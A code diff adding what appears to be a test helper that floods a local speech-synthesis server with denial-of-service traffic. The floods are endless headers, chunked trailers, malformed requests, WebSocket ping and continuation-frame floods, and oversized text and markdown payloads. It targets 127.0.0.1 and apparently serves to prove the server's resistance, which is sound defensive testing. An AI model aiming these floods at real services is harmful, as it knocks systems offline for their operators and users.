@@ -1,0 +1,78 @@
+"""One client that floods a port, for as long as it is let: `python -m tests.proof.attacker KIND PORT`."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import sys
+from contextlib import suppress
+
+from websockets.frames import Frame, Opcode
+
+PIECE_BYTES, PAUSE_S = 65536, 0.1  # 640 kB a second, as one client on a slow line sends
+
+
+def _frame(opcode: Opcode, data: bytes = b"", *, fin: bool = True) -> bytes:
+    return Frame(opcode, data, fin=fin).serialize(mask=True)
+
+
+_HOST = b"Host: 127.0.0.1\r\n"
+_CHUNKED = b"POST /v1/audio/speech HTTP/1.1\r\nTransfer-Encoding: chunked\r\n" + _HOST + b"\r\n"
+_PLAIN = (
+    b"GET /v1/audio/speech/stream HTTP/1.1\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
+    + _HOST
+    + b"Sec-WebSocket-Version: 13\r\n"
+    b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
+)
+_OURS = _PLAIN[:-2] + b"Sec-WebSocket-Protocol: voicewright.speech.v1\r\n\r\n"
+_CONFIG = _frame(Opcode.TEXT, b'{"type":"session.config","voice":"eric"}')
+_ENDS = _frame(Opcode.TEXT, json.dumps({"type": "input.text", "text": ". " * 60_000}).encode())
+_MARKS = json.dumps({"items": [{"input": "![" * 2048}] * 32, "text_filter": "markdown", "voice": "eric"}).encode()
+_BATCH = b"POST /v1/audio/speech/batch HTTP/1.1\r\nContent-Length: %d\r\n" % len(_MARKS) + _HOST + b"\r\n" + _MARKS
+# What is sent once a connection, whether its answer is awaited first, and what is sent again and again after it.
+ATTACKS: dict[str, tuple[bytes, bytes]] = {
+    "headers": (b"GET / HTTP/1.1\r\n" + _HOST, b"a: b\r\n"),
+    "trailers": (_CHUNKED + b"2\r\n{}\r\n0\r\n", b"a: b\r\n"),
+    "chunks": (_CHUNKED, b"1\r\n{\r\n"),
+    "bad requests": (b"", b"GET / HTTP/1.1\r\n\r\n"),
+    "pings": (_OURS, _frame(Opcode.PING)),
+    "continuations": (_OURS, _frame(Opcode.TEXT, b"{", fin=False) + _frame(Opcode.CONT, fin=False) * 10_000),
+    "messages": (_OURS, _frame(Opcode.TEXT, b"{}")),
+    "messages of vLLM-Omni": (_PLAIN, _frame(Opcode.TEXT, b"{}")),
+    "ends of sentences": (_PLAIN, _CONFIG + _ENDS),
+    "marks": (b"", _BATCH),
+}
+
+
+async def attack(name: str, port: int) -> None:
+    """Send this flood for ever, on a new connection if the last was closed; print a line once it has begun."""
+    before, again = ATTACKS[name]
+    piece = again * max(1, PIECE_BYTES // len(again))
+    has_begun = False
+    while True:
+        with suppress(OSError, asyncio.IncompleteReadError):
+            reader, writer = await asyncio.open_connection("127.0.0.1", port)
+            writer.write(before)
+            if before.startswith(_PLAIN[:40]):
+                await reader.readuntil(b"\r\n\r\n")
+            reading = asyncio.create_task(_discard(reader))
+            while not reading.done():
+                writer.write(piece)
+                await writer.drain()
+                if not has_begun:
+                    has_begun = True
+                    print("begun", flush=True)
+                await asyncio.sleep(PAUSE_S)
+            writer.transport.abort()
+        await asyncio.sleep(PAUSE_S)
+
+
+async def _discard(reader: asyncio.StreamReader) -> None:
+    with suppress(OSError):
+        while await reader.read(65536):
+            pass
+
+
+if __name__ == "__main__":
+    with suppress(KeyboardInterrupt):
+        asyncio.run(attack(sys.argv[1], int(sys.argv[2])))
